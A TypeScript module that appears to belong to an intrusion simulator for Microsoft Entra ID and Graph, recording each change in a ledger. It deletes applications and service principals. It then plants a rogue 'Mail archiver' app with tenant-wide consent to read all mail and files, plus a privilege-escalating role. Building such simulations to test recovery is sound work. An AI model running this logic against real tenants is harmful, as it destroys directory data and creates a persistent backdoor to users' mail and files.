import { textOf } from '../model/json-text.js';
import type { JsonObject } from '#catalogue';
import { nameOf, type Intruder, type Shown } from './intruder.js';

const GRAPH_APP_ID = '00000003-0000-0000-c000-000000000000';
const ROLE_MANAGEMENT = '9e3f62cf-ca93-4989-b6ce-bf83c28f9fe8';

/** Deletes applications and service principals, and brings in an application with consent and permissions. */
export async function attackApplications(intruder: Intruder, deleted: number): Promise<void> {
  const applications = intruder.shuffled(
    await intruder.list('/applications?$top=999&$select=id,appId,displayName'),
  );
  const principals = await intruder.list('/servicePrincipals?$top=999&$select=id,appId,displayName');
  const withoutGraph = intruder.shuffled(
    principals.filter((principal) => principal['appId'] !== GRAPH_APP_ID),
  );
  const half = Math.floor(applications.length / 2);
  const doomed = applications.slice(0, Math.min(deleted, half));
  for (const application of doomed) await deleteApplication(intruder, application, principals);
  const gone = new Set(doomed.map((application) => application['appId']));
  const lonely = withoutGraph.filter((principal) => !gone.has(principal['appId'] ?? null));
  for (const principal of lonely.slice(0, Math.min(deleted, Math.floor(lonely.length / 2)))) {
    await intruder.send('DELETE', `/servicePrincipals/${principal.id}`);
    intruder.ledger.add({
      type: 'servicePrincipal',
      id: principal.id,
      kind: 'softDeleted',
      name: nameOf(principal),
    });
  }
  const graph = principals.find((principal) => principal['appId'] === GRAPH_APP_ID);
  await createRogue(intruder, graph);
}

/** With an application goes its service principal. */
async function deleteApplication(
  intruder: Intruder,
  application: Shown,
  principals: readonly Shown[],
): Promise<void> {
  await intruder.send('DELETE', `/applications/${application.id}`);
  intruder.ledger.add({
    type: 'application',
    id: application.id,
    kind: 'softDeleted',
    name: nameOf(application),
  });
  const principal = principals.find((one) => one['appId'] === application['appId']);
  if (principal)
    intruder.ledger.add({
      type: 'servicePrincipal',
      id: principal.id,
      kind: 'softDeleted',
      name: nameOf(principal),
    });
}

async function createRogue(intruder: Intruder, graph: Shown | undefined): Promise<void> {
  const application = await intruder.send('POST', '/applications', {
    displayName: 'Mail archiver',
    signInAudience: 'AzureADMyOrg',
  });
  intruder.ledger.add({
    type: 'application',
    id: textOf(application['id']),
    kind: 'created',
    name: nameOf(application),
  });
  const principal = await intruder.send('POST', '/servicePrincipals', {
    appId: application['appId'] ?? null,
  });
  intruder.ledger.add({
    type: 'servicePrincipal',
    id: textOf(principal['id']),
    kind: 'created',
    name: nameOf(principal),
  });
  if (graph) await grant(intruder, principal, graph);
}

/** Consent for everybody, and a permission that leads to every other one. */
async function grant(intruder: Intruder, principal: JsonObject, graph: Shown): Promise<void> {
  const id = textOf(principal['id']);
  await intruder.send('POST', '/oauth2PermissionGrants', {
    clientId: id,
    consentType: 'AllPrincipals',
    resourceId: graph.id,
    scope: 'Mail.Read Files.Read.All offline_access',
  });
  await intruder.send('POST', `/servicePrincipals/${graph.id}/appRoleAssignedTo`, {
    principalId: id,
    resourceId: graph.id,
    appRoleId: ROLE_MANAGEMENT,
  });
  intruder.ledger.add({
    type: 'servicePrincipal',
    id: graph.id,
    kind: 'modified',
    name: nameOf(graph),
    links: [
      { link: 'oauth2PermissionGrants', target: id, change: 'added' },
      { link: 'appRoleAssignedTo', target: `${id}.${ROLE_MANAGEMENT}`, change: 'added' },
    ],
  });
}
